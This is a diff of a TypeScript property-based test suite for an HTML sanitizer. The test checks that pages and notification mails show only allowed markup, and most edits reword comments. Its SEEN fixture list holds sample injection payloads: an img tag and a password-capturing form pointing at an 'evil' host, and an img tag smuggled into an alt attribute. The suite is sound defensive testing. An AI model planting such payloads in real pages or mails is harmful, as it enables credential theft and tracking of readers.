@@ -1,5 +1,5 @@
-// Surface: HTML that people write, as different programs read it: page and mail show what was allowed, to all
-// of them.
+// Surface: HTML input, as different programs read it: for all of them, pages and mails show only what is
+// allowed.
 import fc from 'fast-check'
 import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
@@ -15,7 +15,7 @@ import { openHtmlBrowser, type HtmlBrowser } from './htmlBrowser.ts'
 import { elementsOf, joined, lenientTree, standardTree, type Tree } from './htmlTrees.ts'
 import { nastyHtml, OWN } from './nastyHtml.ts'
 
-// The same cases at every run, and others: HTML_CASES=20000 HTML_SEED=2 npx jest
+// The same cases in every run. For other cases: HTML_CASES=20000 HTML_SEED=2 npx jest
 // tests/security/html/htmlReaders.test.ts
 const CASES = Number(process.env.HTML_CASES ?? 400)
 const SEED = Number(process.env.HTML_SEED ?? 1)
@@ -25,7 +25,7 @@ const PUBLIC = 'https://daybook.example.com'
 const cleaned = (html: string) => cleanHtml(html, { isOwnFile: uuid => uuid === OWN })
 const clean = (html: string) => cleaned(html).html
 
-/** What was seen in mails, and is of the kinds that the grammar makes. */
+/** Attacks that were seen in mails, of the kinds that the grammar generates. */
 const SEEN = [
   '<a href="https://x/<pre><img src=https://evil/p.gif><form action=https://evil><input name=password>">x</a>',
   `<img src="/api/v1/download/${OWN}/p.png" alt="><img src=https://evil/q.gif>">`,
@@ -45,7 +45,7 @@ const batches = Array.from({ length: Math.ceil(cases.length / BATCH) }, (_, at) 
 const ELEMENTS = 'p h1 h2 h3 strong em u s code pre br blockquote ul ol li'.split(' ')
 const LINK = /^(?:https?:\/\/|mailto:)/i
 
-/** What no body may have. */
+/** The elements that no body may have. */
 const strangers = (trees: readonly Tree[]) =>
   elementsOf(trees).filter(([name, attributes]) => {
     const names = Object.keys(attributes).sort().join()
@@ -56,7 +56,7 @@ const strangers = (trees: readonly Tree[]) =>
     return !ELEMENTS.includes(name) || names !== ''
   })
 
-/** A body as a mail has it. */
+/** A body as it is in a mail. */
 const inMail = (trees: readonly Tree[]): Tree[] =>
   trees.map((node): Tree => {
     if (typeof node === 'string') return node
@@ -98,7 +98,7 @@ test.each(batches.map((html, at) => ({ at, html })))(
       expect({ ...about, tree: lenientTree(body) }).toEqual({ ...about, tree })
       expect({ ...about, tree: withoutAlt(shown[at] ?? []) }).toEqual({ ...about, tree: withoutAlt(tree) })
       expect({ ...about, again: clean(body) }).toEqual({ ...about, again: body })
-      // A reader that looks for tags in the text finds those that there are.
+      // A reader that looks for tags in the text finds only the real ones.
       const text = body.replace(/<\/?[a-z0-9]+(?: [a-z]+="[^"'<>`]*")*>/g, '')
       expect({ ...about, leftovers: text.match(/[<>]/g) }).toEqual({ ...about, leftovers: null })
     }
@@ -108,13 +108,12 @@ test.each(batches.map((html, at) => ({ at, html })))(
   },
 )
 
-// A link that leads nowhere is shown as text; whether a file belongs to the ticket is known to the server
-// alone.
+// A link without a target is shown as text. Only the server knows whether a file belongs to the ticket.
 const isStrangeToPage = ([name, { href, src }]: Exclude<Tree, string>) =>
   !(name === 'a' && href === undefined) &&
   !(name === 'img' && /^\/api\/v1\/download\/[\da-f-]{36}\/[^/?#]+$/.test(src ?? ''))
 
-// A documented-only server may clean nothing.
+// A server that has only the documented calls may not clean HTML.
 test.each(batches.map((html, at) => ({ at, html })))(
   'batch $at of bodies that no server has cleaned holds nothing strange in the page',
   async ({ html }) => {
@@ -162,7 +161,7 @@ test.each(batches.map((html, at) => ({ at, html })))(
 
 const opened = async (mail: string) => (await chromium.open([mail]))[0] ?? ''
 
-/** The HTML of the mail about a comment, as it left and as a mail program took it out of the message. */
+/** The HTML of the mail about a comment, as it was sent and as a mail program extracts it from the message. */
 async function mailed(name: string, { html: body, nodes }: CleanHtml, text: string): Promise<string> {
   const dataDir = join(folder, name)
   const transport = openTransport({ dataDir, smtpUrl: undefined, mailFrom: 'Daybook <daybook@example.com>' })
@@ -197,7 +196,7 @@ const isBody = ([name, { style }]: Exclude<Tree, string>) =>
   name === 'div' && style === 'overflow-wrap:anywhere'
 const bodyIn = (trees: readonly Tree[]) => elementsOf(trees).find(isBody)?.[2] ?? ['no body']
 
-/** A mail without its words, addresses and body. */
+/** A mail without its text, links and body. */
 const shapeOf = (tree: Tree): Tree => {
   if (typeof tree === 'string') return ''
   const [name, attributes, children] = tree
@@ -206,7 +205,8 @@ const shapeOf = (tree: Tree): Tree => {
 }
 
 /**
- * The web app gives a picture without a text an empty one, and drops a text that looks like the end of a style.
+ * The web app adds an empty alternative text to pictures without one, and drops a text that looks like the end
+ * of a style.
  */
 const withoutAlt = (trees: readonly Tree[]): Tree[] =>
   trees.map(tree => {
